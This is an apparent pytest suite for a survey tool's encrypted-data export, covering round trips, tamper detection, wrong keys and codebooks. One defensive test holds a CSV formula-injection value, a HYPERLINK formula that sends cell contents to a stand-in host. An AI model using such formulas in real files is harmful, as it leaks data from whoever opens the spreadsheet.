"""Export on the analyst's machine: round trip, tampering, wrong keys, sources, codebook."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
import uuid as uuid_mod
from pathlib import Path

import pytest
from click.testing import CliRunner

from fieldkit.cli import main
from fieldkit.crypto import ENC_LENGTH, TAG_LENGTH, seal
from fieldkit.db import open_db
from fieldkit.envelope import new_header
from fieldkit.export import export_submissions, read_source
from fieldkit.forms import load_form, load_forms
from fieldkit.journal import Journal, recover_journals
from fieldkit.outbox import Outbox
from fieldkit.study import init_study, load_private_key, load_private_keys

PASS = "export test passphrase"
EXAMPLE = Path(__file__).parent / "forms_data" / "example.yaml"


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    base = tmp_path_factory.mktemp("study")
    config = init_study(base / "study", base / "analyst.pem", PASS, study_id="csec")
    return config, base / "analyst.pem"


@pytest.fixture
def forms_dir(tmp_path):
    d = tmp_path / "forms"
    d.mkdir()
    shutil.copy(EXAMPLE, d / "example.yaml")
    return d


FORM = load_form(EXAMPLE)

ANSWER_SETS = [
    {"age_band": "a18_30", "site": "pune", "experience": "y6_15", "prevalence": "somewhat",
     "trained": "true", "channels": ["public", "online"], "reasons": ["witnesses", "evidence"],
     "notes": "छाप्यानंतर दर वाढला; \"quoted\", comma, new\nline"},
    {"age_band": "a31_60", "site": "nagpur", "experience": "_dk", "prevalence": "not_at_all",
     "trained": "not_sure", "notes": "_pna"},
    {"age_band": "a18_30", "site": "pune", "prevalence": "_skip", "channels": ["none"]},
]


def make_item(config, answers, **over):
    fields = dict(form_id="example", form_hash=FORM.hash, station="st01", enumerator="e07",
                  outcome="completed", site=answers.get("site"),
                  quota={"site": answers["site"]} if "site" in answers else {},
                  n_answered=len(answers), started_at="2026-11-23T09:00:00Z",
                  ended_at="2026-11-23T09:20:00Z")
    fields.update(over)
    return seal(new_header(**fields), {"answers": answers, "paradata": {"lang": "mr"}},
                config.public_key, config.key_id)


def station_with(tmp_path, config, items):
    db_path = tmp_path / "station" / "station.db"
    outbox = Outbox(open_db(db_path))
    for item in items:
        outbox.store(item)
    return db_path, outbox


def read_csv(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def expected_cell(value):
    return " ".join(value) if isinstance(value, list) else value


def test_round_trip_gives_back_exactly_the_answers(tmp_path, study, forms_dir):
    config, key_path = study
    items = [make_item(config, a) for a in ANSWER_SETS]
    db_path, _ = station_with(tmp_path, config, items)
    result = export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                                load_forms(forms_dir))
    assert result.exported == 3 and result.failed == []
    rows = read_csv(tmp_path / "out" / "example" / "submissions.csv")
    assert [r["uuid"] for r in rows] == [i.uuid for i in items]
    qids = [q.id for q in FORM.all_questions if q.type != "note"]
    for row, answers, item in zip(rows, ANSWER_SETS, items):
        for qid in qids:
            assert row[qid] == expected_cell(answers.get(qid, "")), qid
        assert row["outcome"] == "completed" and row["station"] == "st01"
        assert row["form_hash"] == FORM.hash and row["form_hash_known"] == "true"
        assert row["form_version"] == FORM.version and row["lang"] == "mr"
        assert row["quota"] == f"site={answers['site']}"
    # JSON keeps the exact values (lists, Unicode, newlines).
    lines = (tmp_path / "out" / "example" / "submissions.jsonl").read_text("utf-8").splitlines()
    assert [json.loads(line)["answers"] for line in lines] == ANSWER_SETS
    index = read_csv(tmp_path / "out" / "index.csv")
    assert {r["status"] for r in index} == {"exported"}
    assert (tmp_path / "out" / "index.csv").stat().st_mode & 0o077 == 0


def test_codebook_in_three_languages_with_skip_logic(tmp_path, study, forms_dir):
    config, key_path = study
    db_path, _ = station_with(tmp_path, config, [make_item(config, ANSWER_SETS[0])])
    export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                       load_forms(forms_dir))
    book = json.loads((tmp_path / "out" / "example" / "codebook.json").read_text("utf-8"))
    assert book["form_hash"] == FORM.hash
    names = [v["name"] for v in book["variables"]]
    assert names == [q.id for q in FORM.all_questions if q.type != "note"]
    channels = next(v for v in book["variables"] if v["name"] == "channels")
    assert channels["relevant"] == "prevalence != 'not_at_all'"
    assert set(channels["label"]) == {"en", "hi", "mr"} and all(channels["label"].values())
    assert [o["code"] for o in channels["options"]] == ["public", "private", "online", "none"]
    assert book["reserved_codes"]["_dk"]["hi"]
    rows = {r["variable"]: r for r in read_csv(tmp_path / "out" / "example" / "codebook.csv")}
    assert rows["channels"]["relevant"] == "(prevalence != 'not_at_all')"
    assert rows["experience"]["options_mr"].startswith("y0_5=")
    assert rows["prevalence"]["label_hi"] == FORM.question("prevalence").label["hi"]
    assert rows["uuid"]["type"] == "header"


def _flip(ct: bytes, pos: int) -> bytes:
    b = bytearray(ct)
    b[pos] ^= 0x01
    return bytes(b)


HEADER_CHANGES = {
    "uuid": lambda h: str(uuid_mod.uuid4()), "form_id": lambda h: "example2",
    "form_hash": lambda h: "0" * 64, "key_id": lambda h: "0123456789abcdef",
    "station": lambda h: "st99", "enumerator": lambda h: "e99", "site": lambda h: "thane",
    "quota": lambda h: {"site": "thane"}, "outcome": lambda h: "terminated",
    "keep_partial": lambda h: True, "started_at": lambda h: "2026-11-23T08:00:00Z",
    "ended_at": lambda h: "2026-11-23T23:00:00Z", "n_answered": lambda h: 99,
    "fingerprint": lambda h: "f" * 64, "sketch": lambda h: [3] * 64,
    "over_quota": lambda h: True, "training": lambda h: True,
    "payload": lambda h: "journal", "v": lambda h: 2,
}


def test_tampering_fails_only_the_tampered_submissions(tmp_path, study, forms_dir):
    """One station.db; each submission but the controls gets one change, made directly
    in the SQLite file (as an attacker with the laptop would). Only those fail."""
    config, key_path = study
    cases = [("ct", "enc", 0), ("ct", "enc", ENC_LENGTH - 1), ("ct", "body", ENC_LENGTH),
             ("ct", "body", ENC_LENGTH + 5), ("ct", "tag", -TAG_LENGTH), ("ct", "tag", -1),
             ("ct", "hash-only", 0)]
    cases += [("header", field, None) for field in HEADER_CHANGES]
    items = [make_item(config, ANSWER_SETS[i % 3]) for i in range(len(cases) + 3)]
    db_path, outbox = station_with(tmp_path, config, items)
    outbox.db.conn.close()
    conn = sqlite3.connect(db_path)
    tampered = {}
    for (kind, what, pos), item in zip(cases, items):
        if kind == "ct":
            ct = item.ciphertext if what == "hash-only" else _flip(item.ciphertext, pos)
            new_hash = "0" * 64 if what == "hash-only" else __import__("hashlib").sha256(
                ct).hexdigest()
            conn.execute("UPDATE outbox SET ciphertext = ?, ct_hash = ? WHERE uuid = ?",
                         [ct, new_hash, item.uuid])
        else:
            header = dict(item.header)
            header[what] = HEADER_CHANGES[what](header)
            conn.execute("UPDATE outbox SET header = ? WHERE uuid = ?",
                         [json.dumps(header), item.uuid])
        tampered[item.uuid if what != "uuid" else header["uuid"]] = (kind, what)
    conn.commit()
    conn.close()
    result = export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                                load_forms(forms_dir))
    failed = {uuid: (code, message) for uuid, code, message in result.failed}
    assert set(failed) == set(tampered), (set(failed) ^ set(tampered))
    for uuid, (code, message) in failed.items():
        assert uuid in message or uuid == "?", (tampered[uuid], message)
        assert code.startswith("crypto."), tampered[uuid]
    assert result.exported == 3
    rows = read_csv(tmp_path / "out" / "example" / "submissions.csv")
    assert [r["uuid"] for r in rows] == [i.uuid for i in items[-3:]]
    assert [r["prevalence"] for r in rows] == [expected_cell(ANSWER_SETS[i % 3].get(
        "prevalence", "")) for i in range(len(cases), len(cases) + 3)]
    index = read_csv(tmp_path / "out" / "index.csv")
    assert sum(r["status"] == "failed" for r in index) == len(cases)


def test_wrong_key_and_wrong_passphrase_on_the_command_line(tmp_path, study, forms_dir):
    config, key_path = study
    db_path, _ = station_with(tmp_path, config, [make_item(config, a) for a in ANSWER_SETS])
    other = tmp_path / "other.pem"
    init_study(tmp_path / "other", other, PASS)
    runner = CliRunner()
    result = runner.invoke(main, ["export", "--key", str(other), "--in", str(db_path),
                                  "--out", str(tmp_path / "o1"), "--forms", str(forms_dir)],
                           env={"FIELDKIT_PASSPHRASE": PASS})
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.output.count("FAILED") == 3
    assert "0 exported, 3 failed" in result.output
    uid = read_csv(tmp_path / "o1" / "index.csv")[0]["uuid"]
    assert uid in result.output and config.key_id in result.output
    result = runner.invoke(main, ["export", "--key", str(key_path), "--in", str(db_path),
                                  "--out", str(tmp_path / "o2"), "--forms", str(forms_dir)],
                           env={"FIELDKIT_PASSPHRASE": "wrong wrong wrong"})
    assert result.exit_code != 0 and "Traceback" not in result.output
    assert "passphrase does not open" in result.output
    assert not (tmp_path / "o2").exists()
    # Prompted passphrase, both keys given: everything exports.
    result = runner.invoke(main, ["export", "--key", str(key_path), "--key", str(other),
                                  "--in", str(db_path), "--out", str(tmp_path / "o3"),
                                  "--forms", str(forms_dir)], input=PASS + "\n")
    assert result.exit_code == 0, result.output
    assert "3 exported, 0 failed" in result.output
    assert "example: 3 submission(s)" in result.output
    # An existing export is not overwritten without --force.
    result = runner.invoke(main, ["export", "--key", str(key_path), "--in", str(db_path),
                                  "--out", str(tmp_path / "o3"), "--forms", str(forms_dir)],
                           env={"FIELDKIT_PASSPHRASE": PASS})
    assert result.exit_code != 0 and "already holds an export" in result.output


def test_interrupted_journal_items_export_with_their_answers(tmp_path, study, forms_dir):
    config, key_path = study
    pre = {"uuid": str(uuid_mod.uuid4()), "form_id": "example", "form_hash": FORM.hash,
           "station": "st01", "enumerator": "e07", "started_at": "2026-11-23T09:00:00Z"}
    j = Journal.start(tmp_path / "station" / "journal", pre, config)
    j.append({"t": "lang", "v": "hi"})
    j.append({"t": "answer", "q": "age_band", "v": "a18_30"})
    j.append({"t": "answer", "q": "channels", "v": ["public", "private"]})
    j.close()
    db_path, outbox = station_with(tmp_path, config, [make_item(config, ANSWER_SETS[0])])
    assert recover_journals(tmp_path / "station" / "journal", outbox, config) == [pre["uuid"]]
    result = export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                                load_forms(forms_dir))
    assert result.exported == 2
    row = next(r for r in read_csv(tmp_path / "out" / "example" / "submissions.csv")
               if r["uuid"] == pre["uuid"])
    assert row["outcome"] == "interrupted" and row["payload"] == "journal"
    assert row["age_band"] == "a18_30" and row["channels"] == "public private"
    assert row["lang"] == "hi" and row["journal_complete"] == "true" and row["site"] == ""


def test_sources_wire_files_folders_bundles_and_training(tmp_path, study, forms_dir):
    config, key_path = study
    items = [make_item(config, a) for a in ANSWER_SETS]
    training = make_item(config, ANSWER_SETS[0], training=True)
    src = tmp_path / "src"
    (src / "deep").mkdir(parents=True)
    (src / "one.json").write_text(json.dumps(items[0].to_wire()))
    (src / "deep" / "more.jsonl").write_text(
        "\n".join(json.dumps(i.to_wire()) for i in items + [training]) + "\n")
    (src / "notes.txt").write_text("not ours")
    (src / "broken.jsonl").write_text(json.dumps({**items[1].to_wire(), "ct_hash": "0" * 64}))
    found = read_source(src)
    assert len([f for f in found if f.item]) == 4        # items[0] twice -> once
    keys = load_private_keys([key_path], PASS)
    result = export_submissions(src, tmp_path / "out", keys, load_forms(forms_dir))
    assert result.exported == 3 and [f[0] for f in result.failed] == [items[1].uuid]
    result = export_submissions(src, tmp_path / "out2", keys, load_forms(forms_dir),
                                include_training=True)
    assert result.exported == 4


def test_bundle_written_by_the_sync_client_exports(tmp_path, study, forms_dir):
    aggregator_client = pytest.importorskip("aggregator.client")
    config, key_path = study
    items = [make_item(config, a) for a in ANSWER_SETS]
    _, outbox = station_with(tmp_path, config, items)
    bundle = tmp_path / "usb" / "st01.jsonl"
    bundle.parent.mkdir()
    aggregator_client.write_bundle(outbox, bundle, station_code="st01", credential="secret")
    result = export_submissions(bundle, tmp_path / "out", load_private_key(key_path, PASS),
                                load_forms(forms_dir))
    assert result.exported == 3 and not result.failed


def test_aggregator_database_exports_with_its_verdicts(tmp_path, study, forms_dir):
    agg_db = pytest.importorskip("aggregator.db")
    registry = pytest.importorskip("aggregator.registry")
    stations = pytest.importorskip("aggregator.stations")
    ingest = pytest.importorskip("aggregator.ingest")
    config, key_path = study
    db = agg_db.open_aggregator_db(tmp_path / "aggregator.db")
    registry.set_study(db, config.to_dict())
    registry.register_form(db, form_id=FORM.id, form_hash=FORM.hash, version=FORM.version,
                           source=EXAMPLE.read_text("utf-8"))
    registry.approve_form(db, FORM.hash, irb_reference="IRB-1", approved_on="2026-11-01",
                          approver="chair", recorded_by="admin")
    stations.create_station(db, "st01", enumerators=["e07"])
    items = [make_item(config, a) for a in ANSWER_SETS]
    conflict = make_item(config, {"site": "pune", "age_band": "a31_60"},
                         uuid=items[0].uuid)
    ingest.ingest_batch(db, "st01", [i.to_wire() for i in items + [conflict]])
    db.conn.close()
    result = export_submissions(tmp_path / "aggregator.db", tmp_path / "out",
                                load_private_key(key_path, PASS), load_forms(forms_dir))
    assert result.exported == 4 and not result.failed
    rows = read_csv(tmp_path / "out" / "example" / "submissions.csv")
    statuses = sorted(r["aggregator_status"] for r in rows)
    assert statuses.count("accepted") >= 3 and "conflict" in statuses


def test_unknown_form_version_still_exports(tmp_path, study, forms_dir):
    config, key_path = study
    odd = make_item(config, {"site": "pune", "mystery": "x"}, form_id="other_form")
    db_path, _ = station_with(tmp_path, config, [odd])
    result = export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                                load_forms(forms_dir))
    assert result.exported == 1 and result.warnings
    [row] = read_csv(tmp_path / "out" / "other_form" / "submissions.csv")
    assert row["mystery"] == "x" and row["form_hash_known"] == "false"


def test_older_form_versions_get_their_own_codebook_from_the_aggregator(tmp_path, study,
                                                                         forms_dir):
    """The forms folder holds version 1.0; the aggregator also registered 0.9 (another
    label); submissions of 0.9 are labelled 0.9 and get codebook_<hash>.json."""
    import yaml

    from fieldkit.forms.loader import load_form_data
    agg_db = pytest.importorskip("aggregator.db")
    registry = pytest.importorskip("aggregator.registry")
    stations = pytest.importorskip("aggregator.stations")
    ingest = pytest.importorskip("aggregator.ingest")
    config, key_path = study
    old_text = EXAMPLE.read_text("utf-8").replace('version: "1.0"', 'version: "0.9"').replace(
        "How prevalent do you think", "How common do you think")
    old, _ = load_form_data(yaml.safe_load(old_text), "old.yaml")
    assert old.hash != FORM.hash
    db = agg_db.open_aggregator_db(tmp_path / "aggregator.db")
    registry.set_study(db, config.to_dict())
    for form, text in ((FORM, EXAMPLE.read_text("utf-8")), (old, old_text)):
        registry.register_form(db, form_id=form.id, form_hash=form.hash,
                               version=str(form.version), source=text)
        registry.approve_form(db, form.hash, irb_reference="IRB-1", approved_on="2026-11-01",
                              approver="chair", recorded_by="admin")
    stations.create_station(db, "st01", enumerators=["e07"])
    new_item = make_item(config, ANSWER_SETS[0])
    old_item = make_item(config, ANSWER_SETS[1], form_hash=old.hash)
    ingest.ingest_batch(db, "st01", [new_item.to_wire(), old_item.to_wire()])
    db.conn.close()
    result = export_submissions(tmp_path / "aggregator.db", tmp_path / "out",
                                load_private_key(key_path, PASS), load_forms(forms_dir))
    assert result.exported == 2 and not result.warnings
    rows = {r["uuid"]: r for r in read_csv(tmp_path / "out" / "example" / "submissions.csv")}
    assert rows[old_item.uuid]["form_version"] == "0.9"
    assert rows[new_item.uuid]["form_version"] == "1.0"
    assert rows[old_item.uuid]["form_hash_known"] == "true"
    book = json.loads((tmp_path / "out" / "example" / f"codebook_{old.hash[:12]}.json"
                       ).read_text("utf-8"))
    prevalence = next(v for v in book["variables"] if v["name"] == "prevalence")
    assert prevalence["label"]["en"].startswith("How common")


def test_a_copied_station_folder_exports_including_unrecovered_journals(tmp_path, study,
                                                                        forms_dir):
    """The laptop died: the station folder is copied as is (station.db + journal/)."""
    config, key_path = study
    station = tmp_path / "station"
    done = make_item(config, ANSWER_SETS[0])
    _, outbox = station_with(tmp_path, config, [done])
    pre = {"uuid": str(uuid_mod.uuid4()), "form_id": "example", "form_hash": FORM.hash,
           "station": "st01", "enumerator": "e07", "started_at": "2026-11-23T09:00:00Z"}
    j = Journal.start(station / "journal", pre, config)
    j.append({"t": "answer", "q": "age_band", "v": "a31_60"})
    j.close()
    # A journal whose interview was also stored (killed before discard): not twice.
    pre2 = {**pre, "uuid": done.uuid}
    j2 = Journal.start(station / "journal", pre2, config)
    j2.append({"t": "answer", "q": "age_band", "v": "a18_30"})
    j2.close()
    outbox.db.conn.close()
    result = export_submissions(station, tmp_path / "out", load_private_key(key_path, PASS),
                                load_forms(forms_dir))
    assert result.exported == 2 and not result.failed
    rows = {r["uuid"]: r for r in read_csv(tmp_path / "out" / "example" / "submissions.csv")}
    assert rows[pre["uuid"]]["outcome"] == "interrupted"
    assert rows[pre["uuid"]]["age_band"] == "a31_60"
    assert rows[done.uuid]["outcome"] == "completed"


def test_formulas_typed_by_a_respondent_do_not_run_in_a_spreadsheet(tmp_path, study,
                                                                    forms_dir):
    config, key_path = study
    evil = {"site": "pune", "notes": '=HYPERLINK("http://x.example/?"&A1,"click")'}
    db_path, _ = station_with(tmp_path, config, [make_item(config, evil)])
    export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                       load_forms(forms_dir))
    [row] = read_csv(tmp_path / "out" / "example" / "submissions.csv")
    assert row["notes"] == "'" + evil["notes"]
    line = (tmp_path / "out" / "example" / "submissions.jsonl").read_text("utf-8")
    assert json.loads(line)["answers"] == evil


def test_codebook_header_descriptions_in_three_languages(tmp_path, study, forms_dir):
    config, key_path = study
    db_path, _ = station_with(tmp_path, config, [make_item(config, ANSWER_SETS[0])])
    export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
                       load_forms(forms_dir))
    book = json.loads((tmp_path / "out" / "example" / "codebook.json").read_text("utf-8"))
    for var in book["header_variables"]:
        en, hi, mr = (var["description"][lang] for lang in ("en", "hi", "mr"))
        assert en and hi and mr and hi != en and mr != en, var["name"]
    assert book["reserved_codes"]["_skip"]["mr"] == "दाखवला, सोडून दिला"
    rows = {r["variable"]: r for r in read_csv(tmp_path / "out" / "example" / "codebook.csv")}
    assert rows["enumerator"]["label_hi"] == "सर्वेक्षक कोड"


def test_cli_reports_an_unwritable_output_folder_without_a_traceback(tmp_path, study,
                                                                     forms_dir):
    config, key_path = study
    db_path, _ = station_with(tmp_path, config, [make_item(config, ANSWER_SETS[0])])
    blocker = tmp_path / "not_a_dir"
    blocker.write_text("x")
    result = CliRunner().invoke(main, ["export", "--key", str(key_path), "--in", str(db_path),
                                       "--out", str(blocker / "out"), "--forms",
                                       str(forms_dir)], env={"FIELDKIT_PASSPHRASE": PASS})
    assert result.exit_code != 0
    assert "Traceback" not in result.output and "not_a_dir" in result.output
